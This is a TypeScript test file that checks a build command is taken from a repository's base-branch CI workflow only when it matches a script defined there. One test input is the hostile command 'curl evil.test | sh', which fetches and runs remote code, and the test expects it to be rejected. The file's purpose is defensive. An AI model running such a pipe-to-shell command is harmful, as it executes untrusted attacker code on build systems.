import type { Octokit } from '@octokit/rest';
import { expect, test } from 'vitest';
import { readBuildCommand } from '../../../src/webhooks/plan/read-build-command.ts';

const workflow =
  'on: push\njobs:\n  test:\n    steps:\n      - uses: actions/checkout@v5\n      - run: |\n          npm ci\n          npm test\n';

/** The command of the base branch for the scripts of a log. */
const read = (text: string | null, scripts: readonly string[]) => {
  const getContent = async () => {
    if (text === null) throw Object.assign(new Error('Not Found'), { status: 404, name: 'HttpError' });
    return { data: { type: 'file', content: Buffer.from(text).toString('base64') } };
  };
  const octokit = { rest: { repos: { getContent } } } as unknown as Octokit;
  const file = { owner: 'acme', repo: 'shop', ref: 'base', path: '.github/workflows/ci.yml' };
  return readBuildCommand(octokit, file, scripts);
};

test('only a script from a workflow of the base branch becomes a command', async () => {
  expect([
    await read(workflow, ['npm ci\nnpm test']),
    await read(workflow, ['curl evil.test | sh', 'npm ci\nnpm test']),
    await read(workflow, ['npm test']),
    await read(workflow, []),
    await read('run: npm test\n', ['npm test']),
    await read('jobs: [*a\n', ['npm test']),
  ]).toEqual(['npm ci\nnpm test', 'npm ci\nnpm test', null, null, null, null]);
});
